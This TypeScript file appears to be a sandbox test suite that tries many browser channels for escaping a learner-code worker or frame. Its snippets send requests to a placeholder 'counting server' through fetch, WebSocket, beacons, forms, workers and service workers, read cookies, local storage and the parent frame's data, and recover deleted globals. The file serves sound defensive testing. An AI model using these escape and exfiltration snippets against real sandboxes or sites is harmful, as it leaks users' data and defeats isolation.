// Ways out of a sandbox, as bodies of async functions in plain JavaScript. LEAK is an address of the counting server that
// ends in a slash, UDP a port of it. What a body returns is what it got hold of: nothing is undefined. An exception is a wall.

export type Escapes = Readonly<Record<string, string>>;

/** Waits for whichever of these events comes first. */
const settled = `const settled = (target, ...types) => new Promise((resolve) => {
  for (const type of types) target.addEventListener(type, () => resolve(type), { once: true });
});`;

/** To the network, from any global scope. */
const network: Escapes = {
  fetch: `return (await fetch(LEAK + 'fetch')).status;`,
  'fetch without cors': `return (await fetch(LEAK + 'no-cors', { mode: 'no-cors', keepalive: true })).type;`,
  XMLHttpRequest: `const request = new XMLHttpRequest(); request.open('GET', LEAK + 'xhr'); const end = settled(request, 'load', 'error');
    request.send(); return (await end) === 'load' ? request.responseText : undefined;`,
  EventSource: `const source = new EventSource(LEAK + 'events'); const end = await settled(source, 'open', 'error'); source.close();
    return end === 'open' ? end : undefined;`,
  WebSocket: `const end = await settled(new WebSocket(LEAK.replace('http', 'ws') + 'socket'), 'open', 'error'); return end === 'open' ? end : undefined;`,
  WebSocketStream: `return (await new WebSocketStream(LEAK.replace('http', 'ws') + 'stream').opened) && 'open';`,
  WebTransport: `const transport = new WebTransport(LEAK.replace('http:', 'https:') + 'transport'); transport.closed.catch(() => {}); await transport.ready; return 'ready';`,
  'import() of another site': `const text = 'import("' + LEAK + 'module.js").then(() => globalThis.came?.("came"), () => globalThis.came?.(undefined))';
    return await new Promise((resolve) => { globalThis.came = resolve; RUN(text); });`,
  'import() of a data: address': `const text = 'import("data:text/javascript,export default 1").then((m) => globalThis.came?.("came"), () => globalThis.came?.(undefined))';
    return await new Promise((resolve) => { globalThis.came = resolve; RUN(text); });`,
  'a worker of another site': `const worker = new Worker(LEAK + 'worker.js'); return (await settled(worker, 'message', 'error')) === 'message' ? 'runs' : undefined;`,
  'a worker in a worker that fetches': `const text = 'fetch("' + LEAK + 'nested").then(() => postMessage("got"), () => postMessage(""))';
    const worker = new Worker(URL.createObjectURL(new Blob([text], { type: 'text/javascript' })));
    return await new Promise((resolve) => { worker.onmessage = ({ data }) => resolve(data || undefined); worker.onerror = () => resolve(); });`,
  'a module worker that imports': `const text = 'import "' + LEAK + 'nested-module.js"; postMessage("got")';
    const worker = new Worker(URL.createObjectURL(new Blob([text], { type: 'text/javascript' })), { type: 'module' });
    return await new Promise((resolve) => { worker.onmessage = ({ data }) => resolve(data); worker.onerror = () => resolve(); });`,
  SharedWorker: `const worker = new SharedWorker(LEAK + 'shared.js'); return (await settled(worker, 'error')) === 'error' ? undefined : 'runs';`,
  'a font': `const font = new FontFace('stolen', 'url(' + LEAK + 'font)'); await font.load(); return 'loaded';`,
  RTCPeerConnection: `const peer = new RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:' + UDP }] }); peer.createDataChannel('x');
    await peer.setLocalDescription(); await new Promise((resolve) => { peer.onicegatheringstatechange = () => peer.iceGatheringState === 'complete' && resolve(); });
    peer.close(); return undefined;`,
  eval: `return (0, eval)('1 + 1');`,
  'new Function': `return new Function('return 2')();`,
};

/** To what the site keeps, from any global scope. Only what the site put there counts as got. */
const storage: Escapes = {
  indexedDB: `const opening = indexedDB.open('course'); const end = await settled(opening, 'success', 'error'); if (end === 'error') return undefined;
    const db = opening.result; return db.objectStoreNames.contains('kept') ? 'found' : undefined;`,
  'indexedDB.databases()': `return (await indexedDB.databases()).find(({ name }) => name === 'course')?.name;`,
  caches: `return (await caches.match(LEAK + 'cached')) && 'found';`,
  cookieStore: `return (await cookieStore.get('kept'))?.value;`,
  'the private file system': `const root = await navigator.storage.getDirectory(); return (await root.getFileHandle('kept')).name;`,
  BroadcastChannel: `const channel = new BroadcastChannel('course'); const heard = new Promise((resolve) => { channel.onmessage = ({ data }) => resolve(data); });
    channel.postMessage('asked'); return await heard;`,
  locks: `return (await navigator.locks.query()).held.find(({ name }) => name === 'course')?.name;`,
};

/** From the code of a learner. */
export const workerEscapes: Escapes = {
  ...network,
  ...storage,
  'importScripts of another site': `importScripts(LEAK + 'script.js'); return 'came';`,
  'importScripts of a data: address': `importScripts('data:text/javascript,globalThis.fromData=1'); return globalThis.fromData;`,
  'a way round the deleted names': `let object = globalThis; while (object) { for (const name of ['fetch', 'XMLHttpRequest', 'importScripts', 'indexedDB']) {
      const found = Object.getOwnPropertyDescriptor(object, name); const call = found?.value ?? found?.get?.call(globalThis);
      if (name === 'fetch' && typeof call === 'function') return (await call.call(globalThis, LEAK + 'round')).status; }
    object = Object.getPrototypeOf(object); } return undefined;`,
};

/** From a script of the frame itself, were there ever one that is not ours. */
export const frameEscapes: Escapes = {
  ...network,
  ...storage,
  sendBeacon: `navigator.sendBeacon(LEAK + 'beacon', 'x'); return undefined;`,
  'an image': `const image = new Image(); image.src = LEAK + 'image'; return (await settled(image, 'load', 'error')) === 'load' ? 'loaded' : undefined;`,
  'a script element': `const script = document.createElement('script'); script.src = LEAK + 'element.js'; const end = settled(script, 'load', 'error'); document.head.append(script);
    return (await end) === 'load' ? 'ran' : undefined;`,
  'an inline script': `const script = document.createElement('script'); script.textContent = 'globalThis.inlined = 1'; document.head.append(script); return globalThis.inlined;`,
  'a style sheet': `const link = document.createElement('link'); link.rel = 'stylesheet'; link.href = LEAK + 'sheet.css'; const end = settled(link, 'load', 'error'); document.head.append(link);
    return (await end) === 'load' ? 'loaded' : undefined;`,
  'a prefetch': `for (const rel of ['prefetch', 'preload', 'modulepreload', 'icon', 'manifest']) { const link = document.createElement('link'); link.rel = rel; link.as = 'fetch'; link.href = LEAK + rel; document.head.append(link); }
    await new Promise((resolve) => setTimeout(resolve, 300)); return undefined;`,
  'an inline style': `const style = document.createElement('style'); style.textContent = '@import url(' + LEAK + 'import.css)'; document.head.append(style);
    await new Promise((resolve) => setTimeout(resolve, 300)); return undefined;`,
  'a frame': `const frame = document.createElement('iframe'); frame.src = LEAK + 'frame'; const end = settled(frame, 'load', 'error'); document.body.append(frame); await end; return undefined;`,
  'an object': `const object = document.createElement('object'); object.data = LEAK + 'object'; document.body.append(object); return (await settled(object, 'load', 'error')) === 'load' ? 'loaded' : undefined;`,
  'a video': `const video = document.createElement('video'); video.src = LEAK + 'video'; document.body.append(video); return (await settled(video, 'loadeddata', 'error')) === 'error' ? undefined : 'loaded';`,
  'a form': `const form = document.createElement('form'); form.action = LEAK + 'form'; form.method = 'post'; document.body.append(form); form.submit();
    await new Promise((resolve) => setTimeout(resolve, 300)); return undefined;`,
  'a new window': `return window.open(LEAK + 'window') ? 'opened' : undefined;`,
  'the top window’s address': `try { top.location.href = LEAK + 'top'; } catch {} await new Promise((resolve) => setTimeout(resolve, 300)); return undefined;`,
  'the parent’s document': `return parent.document.title;`,
  'the parent’s storage': `return parent.localStorage.getItem('kept');`,
  'another frame of the parent': `for (let i = 0; i < parent.frames.length; i++) if (parent.frames[i] !== self) return parent.frames[i].document.title; return undefined;`,
  localStorage: `return localStorage.getItem('kept') ?? undefined;`,
  sessionStorage: `return sessionStorage.getItem('kept') ?? undefined;`,
  'document.cookie': `return document.cookie || undefined;`,
  'requestStorageAccess()': `await document.requestStorageAccess(); return 'granted';`,
  'a service worker': `await navigator.serviceWorker.register(LEAK + 'service.js'); return 'registered';`,
};

/** A program that tries each of them and prints what it got, a line of JSON each. `run` evaluates a text as a script of its own. */
export function tryAll(escapes: Escapes, leak: string, udp: number, run: string, print: string): string {
  const parts = Object.entries(escapes).map(([name, body]) => {
    const text = body.replaceAll('LEAK', JSON.stringify(leak)).replaceAll('UDP', String(udp));
    return `[${JSON.stringify(name)}, async () => { ${text} }],`;
  });
  return `${settled}
const RUN = ${run};
const late = () => new Promise((resolve) => setTimeout(resolve, 1500));
for (const [name, escape] of [\n${parts.join('\n')}\n]) {
  let got;
  try { got = await Promise.race([escape(), late()]); } catch (error) { got = undefined; }
  (${print})({ name, got: got === undefined ? null : String(got) });
}`;
}
